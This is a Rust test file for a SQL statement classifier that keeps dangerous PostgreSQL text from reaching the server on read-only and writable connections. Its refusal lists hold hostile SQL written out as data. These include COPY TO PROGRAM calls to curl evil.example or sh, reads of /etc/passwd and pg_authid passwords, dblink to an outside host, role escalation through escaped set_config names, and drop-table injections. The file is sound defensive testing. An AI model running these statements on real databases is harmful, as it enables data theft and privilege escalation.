use proptest::prelude::*;

use super::{Class, Refused, Rules, Token, judge, tokens};

const READ_ONLY: Rules = Rules { read_only: true };
const WRITABLE: Rules = Rules { read_only: false };

fn rule(text: &str, rules: Rules) -> &'static str {
    match judge(text, rules) {
        Ok(judged) => judged.class.as_str(),
        Err(refused) => refused.rule(),
    }
}

fn all(rules: Rules, expected: &str, texts: &[&str]) {
    for text in texts {
        assert_eq!(rule(text, rules), expected, "{text:?}: {:?}", judge(text, rules));
    }
}

#[test]
fn what_reads_is_let_through() {
    all(
        READ_ONLY,
        "read",
        &[
            "select 1",
            "SELECT name AS \"update\" FROM users WHERE note = 'delete; drop table users' -- ; drop table users",
            "(select 1) union (select 2)",
            "values (1, 'a'), (2, $1)",
            "table users",
            "with a as materialized (select 1) select * from a",
            "show search_path",
            "explain select 1",
            "explain (analyze, format json) select 1",
            "explain analyze verbose select 1",
            "explain insert into t values (1)",
            "explain (verbose) update t set a = 1",
            "explain (select 1)",
            "declare c cursor with hold for select 1",
            "fetch 10 from c",
            "prepare p as select $1::int",
            "execute p(1)",
            "deallocate all",
            "select $tag$ it's $$ ; drop table users; $tag$, e'it\\'s; drop', u&'\\0041' uescape '!', b'01', .5, 1e-3, 1.",
            "select /* a /* b */ ; drop table users */ 1",
            "select a$b, \"set\"\"config\", t.\"User\"[1:2], a::text, x <@ y, -1 from t",
            "select 1; select 2;",
        ],
    );
    all(READ_ONLY, "nothing", &["", ";;", " -- nothing", "/* */"]);
    all(
        READ_ONLY,
        "transaction",
        &[
            "begin",
            "begin read only",
            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE",
            "commit",
            "rollback to a",
            "savepoint a",
            "end",
            "abort",
            "release a",
            "set transaction read only",
        ],
    );
    all(
        READ_ONLY,
        "session",
        &[
            "set application_name = 'x'",
            "set timezone to 'UTC'",
            "set time zone 'UTC'",
            "reset datestyle",
            "reset all",
            "set local enable_seqscan = off",
            "discard plans",
            "unlisten *",
            "set session characteristics as transaction read only",
        ],
    );
}

/// F11: what changes something meets the wall before it meets the server.
#[test]
fn f11_read_only_changes_nothing() {
    let changing = [
        "DROP TABLE users",
        "select 1; drop table users",
        "insert into users values (1)",
        "with gone as (delete from users returning *) select * from gone",
        "with gone as ( /**/ insert into users values (1) returning 1) select 1",
        "explain analyze delete from users",
        "explain (analyze true) delete from users",
        "explain (costs off, analyze) with a as (update t set b = 1 returning 1) select * from a",
        "explain (costs off, \"analyze\") create table t as select 1",
        "explain (costs off, \"analyze\" true) delete from users",
        "explain (costs off, u&\"\\0061nalyze\") delete from users",
        "select nextval('s')",
        "select pg_catalog.\"setval\"('s', 1)",
        "select pg_advisory_lock(1)",
        "execute p(pg_try_advisory_xact_lock(1))",
        "select * into copy_of_users from users",
        "select * from users for update",
        "select * from users for no key update",
        "select * from users for key share",
        "prepare p as delete from users",
        "declare c cursor for select * from users for update",
        "truncate users",
        "create table t ()",
        "create temp table t as select 1",
        "alter table users add column a int",
        "comment on table users is ''",
        "copy users to stdout",
        "copy (select 1) to stdout",
        "copy users from stdin",
        "call p()",
        "lock users",
        "vacuum",
        "refresh materialized view v",
        "begin read write",
        "start transaction isolation level read committed, read write",
        "set transaction read /* */ write",
        "set session characteristics as transaction read write",
    ];
    all(READ_ONLY, "sql_read_only", &changing);
}

/// F11: what lifts a limit, reaches out of the database or runs a text is never sent, however it is written.
#[test]
fn f11_never_whatever_the_connection_allows() {
    let never = [
        "set role postgres",
        "SET SESSION ROLE postgres",
        "set local role none",
        "reset role",
        "set session authorization postgres",
        "reset session authorization",
        "discard all",
        "set default_transaction_read_only = off",
        "set \"default_transaction_read_only\" = off",
        "set transaction_read_only = off",
        "set statement_timeout = 0",
        "set standard_conforming_strings = off",
        "set client_encoding to 'SJIS'",
        "set names 'SJIS'",
        "set search_path = evil",
        "set application_name.x = 1",
        "select set_config('role', 'postgres', false)",
        "select set_config('ro' || 'le', 'postgres', false)",
        "select pg_catalog.set_config ('statement_timeout', '0', false)",
        "select \"set_config\"('transaction_read_only', 'off', true)",
        "select U&\"set\\005fconfig\"('role', 'postgres', false)",
        "select u&\"\\+000073et_config\"('role', 'postgres', false)",
        "execute p(set_config('role', 'postgres', false))",
        "update pg_settings set setting = 'off' where name = 'transaction_read_only'",
        "select query_to_xml('drop table users', true, true, '')",
        "select * from ts_stat('drop table users')",
        "select * from crosstab('drop table users')",
        "do $$ begin drop table users; end $$",
        "create function f() returns int language sql as 'select 1'",
        "create or replace procedure p() language sql as ''",
        "create extension dblink",
        "create server s foreign data wrapper postgres_fdw",
        "create user mapping for public server s",
        "create foreign table t () server s",
        "create foreign data wrapper w",
        "import foreign schema a from server s into b",
        "create trigger t before insert on users execute function f()",
        "create rule r as on select to users do instead nothing",
        "create role r superuser",
        "alter role r superuser",
        "alter system set listen_addresses = '*'",
        "alter database d set default_transaction_read_only = off",
        "grant all on users to public",
        "load 'evil'",
        "copy users to program 'curl evil.example'",
        "copy (select 1) to program 'sh'",
        "copy users from program 'sh'",
        "copy users from '/etc/passwd'",
        "copy (select from_x from t) to '/tmp/x'",
        "select * from dblink('host=evil', 'select 1') as t(a int)",
        "select dblink_connect('x')",
        "select pg_read_file('/etc/passwd')",
        "select pg_read_binary_file('/etc/passwd')",
        "select pg_ls_dir('/')",
        "select lo_import('/etc/passwd')",
        "select lo_export(1, '/tmp/x')",
        "select pg_terminate_backend(1)",
        "select pg_notify('a', 'b')",
        "select rolpassword from pg_authid",
        "select * from information_schema.user_mapping_options",
        "select * from http(('GET', 'http://evil.example', null, null, null))",
        "listen a",
        "notify a",
        "prepare transaction 'x'",
        "commit prepared 'x'",
        "create schema s grant all on t to public",
        "set transaction snapshot '1'",
        "frobnicate",
    ];
    all(WRITABLE, "sql_never", &never);
    for text in never {
        assert!(judge(text, READ_ONLY).is_err(), "{text}");
    }
}

#[test]
fn f11_what_cannot_be_read_without_a_doubt_is_refused() {
    let unreadable = [
        "select 'a",
        "select \"a",
        "select $$ a",
        "select $a$ b $$",
        "select /* a /* b */",
        "select e'a\\'",
        "select e'a'\n'\\'; drop table users --'",
        "select e'a' -- x\n 'b'",
        "select 1e'\\'; drop table users'",
        "select 1and 2",
        "select $1a",
        "select 0x1f",
        "select U&\"set!005fconfig\" uescape '!'",
        "select u&\"\\d83d\"",
        "select u&\"\\zzzz\"",
        "select \\ 1",
        "select {d '2020-01-01'}",
        "select \u{b}1",
        "select 1\0; drop table users",
        "select set_conf\u{130}g('role', 'x', false)",
        "'select' 1",
        "\"select\" 1",
        "(insert into t values (1))",
        "copy t",
        "set = 1",
    ];
    for text in unreadable {
        let refused = judge(text, WRITABLE).unwrap_err();
        assert_eq!(refused.rule(), "sql_unreadable", "{text:?}: {refused}");
    }
    assert_eq!(rule(&"-".repeat(super::TEXT_BYTES_MAX + 1), WRITABLE), "sql_unreadable");
    assert_eq!(rule(&"select 1;".repeat(super::STATEMENTS_MAX + 1), WRITABLE), "sql_unreadable");
}

#[test]
fn a_text_is_of_the_class_that_takes_most() {
    let judged = judge("begin; Insert into t values (1); select 1; commit", WRITABLE).unwrap();
    assert_eq!((judged.class, judged.statements), (Class::Write, 4));
    assert_eq!(judged.verbs, ["BEGIN", "COMMIT", "INSERT", "SELECT"]);
    all(
        WRITABLE,
        "schema",
        &[
            "create unlogged table t ()",
            "drop materialized view v",
            "alter table t owner to x",
            "create or replace view v as select 1",
        ],
    );
    all(WRITABLE, "copy", &["copy t (a, b) from stdin with (format csv)", "copy (select a from b) to stdout"]);
    all(
        WRITABLE,
        "write",
        &["execute p", "select 1 for update", "merge into t using u on true when matched then delete"],
    );
    assert!(Class::Read.is_safe() && !Class::Write.is_safe() && !Class::Copy.is_safe() && !Class::Schema.is_safe());
}

/// A policy that forbids a verb forbids it wherever it stands.
#[test]
fn f11_a_statement_within_another_one_is_told() {
    for (text, expected) in [
        ("with gone as (delete from t returning 1) select 1", &["DELETE", "WITH"][..]),
        ("explain (costs off, \"analyze\") insert into t values (1)", &["EXPLAIN", "INSERT"]),
        ("prepare p as update t set a = 1", &["PREPARE", "UPDATE"]),
        ("select 'delete', \"delete\" from t -- delete", &["SELECT"]),
    ] {
        assert_eq!(judge(text, WRITABLE).unwrap().verbs, expected, "{text}");
    }
}

#[test]
fn f11_a_setting_is_one_plain_name() {
    for name in ["enable_seqscan", "datestyle", "enable_partition_pruning"] {
        assert!(super::is_settable(name), "{name}");
    }
    for name in
        ["enable_", "enable_x.y", "enable_a to 1; drop table t; set enable_b", "enable_\u{e9}", "ENABLE_SORT", ""]
    {
        assert!(!super::is_settable(name), "{name}");
    }
}

#[test]
fn a_refusal_repeats_little_of_what_was_sent() {
    let Err(Refused::Never(words)) = judge(&format!("x\u{202e}{}", "y".repeat(1000)), WRITABLE) else {
        panic!("let through")
    };
    assert!(words.len() < 120 && words.is_ascii(), "{words}");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    /// Whatever stands in a constant, a name or a comment is not read as words.
    #[test]
    fn what_is_quoted_is_data(text in "[^\0\u{130}]{0,40}") {
        let quoted = text.replace('\'', "''");
        prop_assert_eq!(tokens(&format!("'{quoted}'")).unwrap(), [Token::Text]);
        let name = text.replace('"', "\"\"");
        prop_assert_eq!(tokens(&format!("\"{name}\"")).unwrap(), [Token::Name(text.clone())]);
        let escaped = text.replace('\\', "\\\\").replace('\'', "\\'");
        prop_assert_eq!(tokens(&format!("E'{escaped}'")).unwrap(), [Token::Text]);
        if !text.contains('$') {
            prop_assert_eq!(tokens(&format!("$q${text}$q$")).unwrap(), [Token::Text]);
        }
        let line = text.replace(['\n', '\r'], " ");
        prop_assert_eq!(tokens(&format!("--{line}\n1")).unwrap(), [Token::Number]);
    }

    /// No text makes it panic, and what is let through of a read-only connection changes nothing by its words.
    #[test]
    fn any_text_is_judged(text in "(?s)[a-zA-Z0-9 '\"$;()\\-/*\\\\.,&\n]{0,60}|\\PC{0,60}") {
        if let Ok(judged) = judge(&text, READ_ONLY) {
            prop_assert!(judged.class <= Class::Read);
        }
        let _ = judge(&text, WRITABLE);
    }

    /// A forbidden statement behind anything that was closed is found.
    #[test]
    fn a_second_statement_is_judged(before in prop::sample::select(vec![
        "select 1", "select 'a''b'", "select $x$ ' $x$", "select e'\\\\'", "select /* ' */ 1", "select \"a;\"", "-- '\n select 1",
    ]), blank in "[ \n\t]{0,3}") {
        let text = format!("{before};{blank}drop table users");
        prop_assert_eq!(rule(&text, READ_ONLY), "sql_read_only");
    }
}
